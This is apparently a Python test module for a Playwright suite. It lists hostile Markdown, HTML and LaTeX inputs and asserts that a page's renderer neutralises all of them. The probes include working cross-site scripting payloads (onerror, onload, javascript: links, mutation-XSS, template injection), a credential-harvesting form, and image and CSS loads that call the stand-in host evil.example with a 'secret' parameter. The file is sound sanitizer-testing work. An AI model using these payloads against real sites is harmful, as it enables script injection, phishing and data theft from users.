"""Hostile texts that try to run a script, load a resource or break out of their element.

`check_quiet(page)` asserts that none of them succeeded.
"""

from typing import Final

from playwright.async_api import Page

FOREIGN: Final = "https://evil.example"
PROBES: Final = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror='window.pwned=1'>",
    f"![steal]({FOREIGN}/pixel.png?secret=1)",
    "[click](javascript:window.pwned=1)",
    f"<svg onload=window.pwned=1><image href='{FOREIGN}/x.svg'></svg>",
    f"<iframe src='{FOREIGN}'></iframe><object data='{FOREIGN}'></object>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>data</a>",
    f"<style>@import '{FOREIGN}/x.css';body{{display:none}}</style>",
    f"<form action='{FOREIGN}'><input name=key><button>Log in</button></form>",
    f"<base href='{FOREIGN}/'><meta http-equiv=refresh content='0;url={FOREIGN}'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
    "onerror=window.pwned=1&gt;'>",
    "</script></textarea></title>\"'><b id=main onclick=window.pwned=1>",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "\\(\\href{javascript:window.pwned=1}{x}\\) \\(\\text{<img src=x onerror=window.pwned=1>}\\) "
    f"\\(\\includegraphics{{{FOREIGN}/x.png}}\\) \\(\\url{{{FOREIGN}}}\\)",
    "$$\\class{pwned}{x} \\id{main}{x} \\style{position:fixed;inset:0}{x} \\data{x=y}{z}$$",
    "\\[\\rule{9999em}{9999em} \\kern-9999em \\label{main} \\ref{main} \\color{url(x)}{x}\\]",
    "$$\\def\\a{\\a\\a}\\a$$ $$\\text{</math><script>window.pwned=1</script>}$$",
    '```html" onmouseover=window.pwned=1\n<img src=x onerror=window.pwned=1>\n```',
    "```<img src=x onerror=window.pwned=1>\n<svg onload=window.pwned=1>\n```",
    "| a |\n|:-:|\n| <td align=right onclick=window.pwned=1>x |",
    "- [x] <input type=image src=x onerror=window.pwned=1>",
    "[^1]: <img src=x onerror=window.pwned=1>",
    "\u202etxt.exe\u202c \u0000 \ufeff",
)
ALL: Final = "\n\n".join(PROBES)


async def check_quiet(page: Page) -> None:
    """Assert that no probe had an effect."""
    assert await page.evaluate("window.pwned") is None
    for tag in ("iframe", "object", "embed", "base", "main form input[name=key]", "main style",
                "main img", "main script:not([src^='/ui/'])", "main svg image"):  # fmt: skip
        assert await page.locator(tag).count() == 0, tag
    for link in await page.locator("main a[href]").all():
        href = await link.get_attribute("href")
        assert href is not None
        assert href.startswith(("http://", "https://", "mailto:", "/", "#")), href
    handlers = await page.evaluate(
        "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
        ".filter(name => name.startsWith('on'))"
    )
    assert handlers == []
    assert await page.locator("#main").count() == 1
    assert await page.locator("body").is_visible()
